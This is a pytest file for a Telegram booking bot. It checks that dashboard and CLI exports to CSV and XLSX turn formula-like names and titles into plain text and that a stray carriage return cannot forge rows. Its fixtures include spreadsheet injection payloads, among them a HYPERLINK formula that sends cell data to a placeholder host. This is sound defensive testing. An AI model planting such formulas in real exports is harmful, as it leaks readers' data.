"""Exports that spreadsheets cannot turn against their reader: names booked on Telegram
that look like formulas, or hold a bare carriage return, come out as plain text."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import httpx
import openpyxl
import pytest
from sqlalchemy import select

from bot.runtime import Runtime
from core.clock import FixedClock
from core.schedule.exports import csv_text, neutralise, xlsx_bytes
from core.schedule.importer import import_schedule
from models import Database, WorkshopSession
from tests.support.bot_api import FakeBotApi, FakeUser
from tests.support.dashboard import Dashboard, dashboard_settings
from tests.support.factories import NOW

PARIS = ZoneInfo("Europe/Paris")
FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'
CR_NAME = "Marie\rFausse,ligne;forgée"
NAMES = [FORMULA, CR_NAME, "+33 6 12", "-2+3", "@SUM(A1)", "\tTab", "Zoé"]


async def book(user: FakeUser, session_id: int) -> None:
    """Book a seat as a person would from a deep link: open, book, confirm."""
    await user.say(f"/start s{session_id}")
    replies = await user.press("Oui, je réserve")
    assert "C'est réservé" in replies[0].text


def csv_rows(body: bytes, delimiter: str, encoding: str = "utf-8-sig") -> list[list[str]]:
    """A CSV export read back as a spreadsheet reads it (the csv module, newline='')."""
    return list(csv.reader(io.StringIO(body.decode(encoding), newline=""), delimiter=delimiter))


def xlsx_rows(body: bytes) -> list[list[object]]:
    """An .xlsx export read back with openpyxl; formulas would show as data_type 'f'."""
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def names_in(rows: list[list[object]]) -> list[object]:
    column = rows[0].index("name")
    return [row[column] for row in rows[1:]]


EXPECTED = [
    "'" + FORMULA,
    "Marie Fausse,ligne;forgée",
    "'+33 6 12",
    "'-2+3",
    "'@SUM(A1)",
    "Tab",
    "Zoé",
]
"""A name is taken in on one line (a carriage return or a tab becomes a space, core.intake);
what would still make a formula gets a quote in front."""
IN_SHEET = EXPECTED


TITLE = '=HYPERLINK("http://x/?"&A1,"titre")'


async def imported_session(db: Database) -> int:
    """A session whose title looks like a formula, loaded by the real importer."""
    start = (NOW + timedelta(days=2, hours=4)).astimezone(PARIS).strftime("%Y-%m-%dT%H:%M")
    quoted = '"' + TITLE.replace('"', '""') + '"'
    content = (
        "title,description,audience,starts_at,duration_minutes,capacity,venue,address\n"
        f"{quoted},d,tous,{start},90,20,Boutique,Metz\n"
    ).encode()
    async with db.transaction() as session:
        report = await import_schedule(session, content, PARIS)
        assert report.errors == []
        return (await session.execute(select(WorkshopSession.id))).scalar_one()


@pytest.fixture
async def booked(sqlite_url: str, clock: FixedClock) -> tuple[str, int]:
    """People with hostile first names booked on one session through Telegram."""
    async with FakeBotApi() as api:
        settings = dashboard_settings(
            sqlite_url,
            telegram_bot_token=api.token,
            telegram_api_base_url=api.base_url,
            telegram_bot_username="atelier_bot",
        )
        runtime = Runtime(settings, clock, poll_timeout=1)
        await runtime.start()
        try:
            session_id = await imported_session(runtime.db)
            for index, name in enumerate(NAMES):
                await book(api.user(700 + index, name), session_id)
            async with httpx.AsyncClient(timeout=10) as client:
                dashboard = Dashboard(runtime, client)
                await dashboard.login()
                exports = {
                    path: (await dashboard.get(path)).content
                    for path in (
                        f"/sessions/{session_id}/bookings.csv",
                        f"/sessions/{session_id}/bookings.xlsx",
                        "/bookings.csv",
                        "/bookings.xlsx",
                    )
                }
        finally:
            await runtime.stop()
    booked_exports.clear()
    booked_exports.update(exports)
    return sqlite_url, session_id


booked_exports: dict[str, bytes] = {}


async def test_dashboard_csv_exports_open_in_columns_and_hold_no_formula(
    booked: tuple[str, int],
) -> None:
    _, session_id = booked
    for path in (f"/sessions/{session_id}/bookings.csv", "/bookings.csv"):
        body = booked_exports[path]
        assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, for Excel
        assert b"\r\n" in body
        rows = csv_rows(body, ";")
        assert {"name", "channel", "status"} <= set(rows[0])
        assert len(rows) == 1 + len(NAMES)  # the bare CR forged no row
        assert names_in(rows) == EXPECTED
        assert {len(row) for row in rows} == {len(rows[0])}


async def test_an_imported_title_that_looks_like_a_formula_is_text(
    booked: tuple[str, int],
) -> None:
    rows = csv_rows(booked_exports["/bookings.csv"], ";")
    column = rows[0].index("session_title")
    assert {row[column] for row in rows[1:]} == {"'" + TITLE}
    sheet = xlsx_rows(booked_exports["/bookings.xlsx"])
    assert {row[column] for row in sheet[1:]} == {"'" + TITLE}


async def test_dashboard_xlsx_exports_hold_text_only(booked: tuple[str, int]) -> None:
    _, session_id = booked
    for path in (f"/sessions/{session_id}/bookings.xlsx", "/bookings.xlsx"):
        rows = xlsx_rows(booked_exports[path])
        assert {"name", "channel", "status"} <= set(rows[0])
        assert names_in(rows) == IN_SHEET


def atelier(url: str, *args: str) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "DATABASE_URL": url}
    return subprocess.run(
        [sys.executable, "-m", "bot", *args], env=env, capture_output=True, timeout=120
    )


async def test_atelier_roster_csv_and_xlsx_hold_no_formula(
    booked: tuple[str, int], tmp_path: Path
) -> None:
    url, session_id = booked
    result = atelier(url, "roster", str(session_id))
    assert result.returncode == 0, result.stderr
    rows = csv_rows(result.stdout, ",", "utf-8")
    assert {"name", "channel", "status"} <= set(rows[0])
    assert len(rows) == 1 + len(NAMES)
    assert names_in(rows) == EXPECTED
    sheet = tmp_path / "roster.xlsx"
    result = atelier(url, "roster", str(session_id), "--format", "xlsx", "--output", str(sheet))
    assert result.returncode == 0, result.stderr
    assert names_in(xlsx_rows(sheet.read_bytes())) == IN_SHEET
    statuses = [row[rows[0].index("status")] for row in xlsx_rows(sheet.read_bytes())[1:]]
    assert statuses == ["booked"] * len(NAMES)


async def test_atelier_roster_xlsx_needs_a_file(booked: tuple[str, int]) -> None:
    url, session_id = booked
    result = atelier(url, "roster", str(session_id), "--format", "xlsx")
    assert result.returncode == 2
    assert b"--output" in result.stderr


def test_every_formula_start_is_neutralised_and_others_are_not() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    for text in ("Marie", "1+1", " =A1", "'=A1", ""):
        assert neutralise(text) == text
    assert neutralise(None) == ""


def test_a_carriage_return_is_quoted_in_csv() -> None:
    text = csv_text(["name"], [{"name": "a\rb"}, {"name": "c"}])
    assert text == 'name\r\n"a\rb"\r\nc\r\n'
    assert csv_rows(text.encode(), ",") == [["name"], ["a\rb"], ["c"]]


def test_an_imported_title_cannot_become_a_formula() -> None:
    body = xlsx_bytes(["session_title"], [{"session_title": "=1+1"}, {"session_title": "\x00x"}])
    assert xlsx_rows(body) == [["session_title"], ["'=1+1"], ["x"]]
